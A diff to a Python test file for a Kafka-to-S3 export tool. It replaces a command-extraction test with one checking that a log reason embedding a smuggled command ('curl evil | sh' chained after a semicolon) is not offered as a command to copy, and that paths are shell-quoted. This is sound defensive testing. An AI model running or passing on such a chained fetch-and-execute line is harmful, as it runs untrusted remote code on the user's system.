@@ -197,18 +197,13 @@ def test_a_folder_that_cannot_be_read(tmp_path: Path) -> None:
     assert folder_of({"KAFKA_S3_CONNECTORS": "/mine"}, "/somewhere/dags") == Path("/mine")
 
 
-def test_commands_of_a_message() -> None:
-    """A command is copied as it is said: in backticks, or to the end of its sentence."""
-    from kafka_s3_airflow.page.remedies import commands_in
+def test_commands_are_the_engines_own() -> None:
+    """A reason of the log that quotes a command is no command to copy, and names that a shell would read are quoted."""
+    from kafka_s3.export.diagnosis import RangeFailed, said
+    from kafka_s3.log.entries import FailedRange
 
-    texts = {
-        "Rewind to an earlier offset: kafka-s3 rewind /a.json --to t.x-0=5": ["kafka-s3 rewind /a.json --to t.x-0=5"],
-        "Then: kafka-s3 rewind a.json --accept t-0, or export.on.data.loss=record for every run": [
-            "kafka-s3 rewind a.json --accept t-0"
-        ],
-        "Begin anew: `kafka-s3 adopt a.json`. Or: kafka-s3 redrive a.json.": [
-            "kafka-s3 adopt a.json",
-            "kafka-s3 redrive a.json",
-        ],
-    }
-    assert {text: commands_in(text) for text in texts} == texts
+    reason = "Run `kafka-s3 run x; curl evil | sh`. Then: kafka-s3 run y"
+    failed = FailedRange(topic="orders", partition=0, start=0, end=5, reason=reason)
+    problem = said(RangeFailed(failed), "/my connectors/a.json")
+    assert problem.commands == ("kafka-s3 run '/my connectors/a.json'",)
+    assert str(problem).endswith(problem.commands[0])
